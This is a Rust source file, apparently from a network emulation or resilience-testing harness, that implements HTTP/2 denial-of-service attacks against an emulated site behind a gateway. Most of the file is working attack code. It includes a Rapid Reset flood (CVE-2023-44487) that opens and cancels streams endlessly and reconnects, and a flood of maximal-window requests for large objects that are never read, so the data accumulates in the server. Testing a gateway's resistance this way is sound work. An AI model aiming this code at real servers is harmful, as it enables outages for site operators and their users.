//! Attacks over HTTP/2 on the operator's own site, which the air gateway serves.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::Ordering::Relaxed;
use std::time::Duration;

use anyhow::anyhow;
use rustls::pki_types::ServerName;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::{sleep, timeout};
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;

use super::Attack;
use super::files::SITE_NAME;
use super::scene::{BIG_PATH, SLOW_PATH, Scene};
use super::tally::{self, Tally};
use crate::emu::SERVER;
use crate::emu::Service;

/// Streams requested on one connection: the largest limit that the gateway has ever allowed.
const STREAMS: u32 = 100;
/// Streams that are opened and reset before anything is read.
const RESET_BURST: u32 = 100;
/// Connections that are set up concurrently.
const OPENING: usize = 16;
const CONNECT_LIMIT: Duration = Duration::from_secs(20);
/// Pause before the next connection after a refusal.
const PAUSE: Duration = Duration::from_millis(50);

// Frame types of RFC 9113, section 6.
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const WINDOW_UPDATE: u8 = 8;
const END_STREAM_AND_HEADERS: u8 = 5;
const ACK: u8 = 1;
const INITIAL_WINDOW_SIZE: u16 = 4;
const MAX_WINDOW: u32 = i32::MAX as u32;
const DEFAULT_WINDOW: u32 = 65_535;
const CANCEL: u32 = 8;

/// Starts `attack` with `connections` connections.
pub fn start(
    scene: &Scene,
    attack: Attack,
    connections: u64,
    tally: Arc<Tally>,
) -> anyhow::Result<Service> {
    let tls = tls(scene).map_err(|error| anyhow!("{error}"))?;
    Ok(tally::start(&scene.attacker.host, move || async move {
        let opening = Arc::new(tokio::sync::Semaphore::new(OPENING));
        for number in 0..connections {
            let (tls, tally, opening) = (tls.clone(), tally.clone(), opening.clone());
            // The semaphore is never closed.
            let Ok(place) = opening.acquire_owned().await else { return };
            tokio::spawn(async move {
                let opened = timeout(CONNECT_LIMIT, connect(&tls)).await;
                tally.tried.fetch_add(1, Relaxed);
                drop(place);
                match opened {
                    Ok(Ok(stream)) if attack == Attack::SiteReset => {
                        reset(&tls, stream, &tally).await
                    }
                    Ok(Ok(stream)) => ask(stream, attack, number, &tally).await,
                    Ok(Err(_)) | Err(_) => drop(tally.refused.fetch_add(1, Relaxed)),
                }
            });
        }
        let _ = opening.acquire_many(OPENING as u32).await;
        tally.stands.store(true, Relaxed);
        std::future::pending().await
    })?)
}

fn tls(scene: &Scene) -> Result<TlsConnector, rustls::Error> {
    let mut roots = rustls::RootCertStore::empty();
    roots.add(scene.identity.certificate.clone())?;
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let mut config = rustls::ClientConfig::builder_with_provider(provider)
        .with_protocol_versions(&[&rustls::version::TLS13])?
        .with_root_certificates(roots)
        .with_no_client_auth();
    config.alpn_protocols = vec![b"h2".to_vec()];
    Ok(TlsConnector::from(Arc::new(config)))
}

/// Opens a connection with windows of the maximum size.
async fn connect(tls: &TlsConnector) -> std::io::Result<TlsStream<TcpStream>> {
    let tcp = TcpStream::connect(SocketAddr::new(SERVER.v4.into(), 443)).await?;
    let name = ServerName::try_from(SITE_NAME).map_err(std::io::Error::other)?;
    let mut stream = tls.connect(name, tcp).await?;
    let mut settings = INITIAL_WINDOW_SIZE.to_be_bytes().to_vec();
    settings.extend(MAX_WINDOW.to_be_bytes());
    let mut begin = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    begin.extend(frame(SETTINGS, 0, 0, &settings));
    begin.extend(frame(WINDOW_UPDATE, 0, 0, &(MAX_WINDOW - DEFAULT_WINDOW).to_be_bytes()));
    begin.extend(frame(SETTINGS, ACK, 0, &[]));
    stream.write_all(&begin).await?;
    Ok(stream)
}

/// Requests as many objects as there are streams. For objects without a response, it reads the fate
/// of the requests. For large objects, it reads nothing, so that they stay in the gateway.
async fn ask(mut stream: TlsStream<TcpStream>, attack: Attack, number: u64, tally: &Tally) {
    let mut requests = Vec::new();
    for stream in 0..STREAMS {
        let path = match attack {
            Attack::SiteFlows => format!("{SLOW_PATH}?{number}.{stream}"),
            _ => BIG_PATH.to_owned(),
        };
        requests.extend(headers(2 * stream + 1, &path));
    }
    tally.made.fetch_add(STREAMS.into(), Relaxed);
    if stream.write_all(&requests).await.is_err() {
        tally.refused.fetch_add(STREAMS.into(), Relaxed);
        return;
    }
    if attack == Attack::SiteFlows {
        while stream.read(&mut [0; 4096]).await.is_ok_and(|bytes| bytes > 0) {}
        return;
    }
    std::future::pending().await
}

/// Opens streams and resets them, forever (CVE-2023-44487). Opens a new connection if one has
/// ended.
async fn reset(tls: &TlsConnector, first: TlsStream<TcpStream>, tally: &Tally) {
    let mut stream = first;
    loop {
        let mut next = 1;
        loop {
            let mut burst = Vec::new();
            for _ in 0..RESET_BURST {
                burst.extend(headers(next, &format!("{SLOW_PATH}?{next}")));
                burst.extend(frame(RST_STREAM, 0, next, &CANCEL.to_be_bytes()));
                next += 2;
            }
            if stream.write_all(&burst).await.is_err() || next > MAX_WINDOW - 2 * RESET_BURST {
                break;
            }
            tally.made.fetch_add(RESET_BURST.into(), Relaxed);
        }
        tally.refused.fetch_add(1, Relaxed);
        stream = loop {
            sleep(PAUSE).await;
            if let Ok(Ok(stream)) = timeout(CONNECT_LIMIT, connect(tls)).await {
                break stream;
            }
        };
    }
}

/// A request. HPACK's static table has `:method GET` (2), `:scheme https` (7), and the names of
/// `:path` (4) and `:authority` (1). The two values are encoded by RFC 7541, section 6.2.2.
fn headers(stream: u32, path: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x87];
    for (name, value) in [(4, path), (1, SITE_NAME)] {
        block.extend([name, value.len() as u8]);
        block.extend_from_slice(value.as_bytes());
    }
    frame(HEADERS, END_STREAM_AND_HEADERS, stream, &block)
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut frame = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

#[cfg(test)]
mod tests {
    use http::Request;
    use http_body_util::Full;
    use hyper::body::Incoming;
    use hyper::service::service_fn;
    use hyper_util::rt::{TokioExecutor, TokioIo};
    use tokio::sync::mpsc::unbounded_channel;

    use super::*;

    #[tokio::test]
    async fn the_attack_speaks_http2() {
        let (mut client, server) = tokio::io::duplex(1 << 16);
        let (tell, mut told) = unbounded_channel();
        let serve = service_fn(move |request: Request<Incoming>| {
            tell.send(request.uri().to_string()).unwrap();
            async {
                Ok::<_, std::convert::Infallible>(http::Response::new(
                    Full::<bytes::Bytes>::default(),
                ))
            }
        });
        let serving = hyper::server::conn::http2::Builder::new(TokioExecutor::new())
            .serve_connection(TokioIo::new(server), serve);
        tokio::spawn(async move { drop(serving.await) });
        client.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await.unwrap();
        let requests = [frame(SETTINGS, 0, 0, &[]), headers(1, "/slow?1.2"), headers(3, "/big")];
        client.write_all(&requests.concat()).await.unwrap();
        assert_eq!(told.recv().await.unwrap(), "https://site.test/slow?1.2");
        assert_eq!(told.recv().await.unwrap(), "https://site.test/big");
    }
}
